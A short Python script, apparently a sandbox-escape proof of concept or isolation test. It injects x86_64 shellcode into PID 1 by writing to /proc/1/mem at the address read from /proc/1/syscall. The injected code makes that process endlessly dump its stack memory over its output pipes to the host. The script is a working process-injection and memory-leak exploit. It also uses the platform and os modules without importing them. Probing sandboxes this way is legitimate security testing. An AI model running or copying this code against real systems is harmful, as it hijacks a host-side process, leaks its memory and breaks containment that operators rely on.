# Code of a sandbox may write into the memory of the process that holds it, which has pipes to the host: it makes it write there without end.
import signal, time
if platform.machine() == 'x86_64':
    # nop ...; again: write(1, rsp, 512); write(2, rsp, 512); jmp again
    code = bytes.fromhex('90' * 16 + 'bf010000004889e6ba00020000b8010000000f05' + 'bf020000004889e6ba00020000b8010000000f05' + 'ebd6')
    with open('/proc/1/syscall') as file:
        counter = int(file.read().split()[-1], 16)
    memory = os.open('/proc/1/mem', os.O_RDWR)
    os.pwrite(memory, code, counter - 2)
    os.kill(1, signal.SIGSTOP)
    os.kill(1, signal.SIGCONT)
    time.sleep(2)
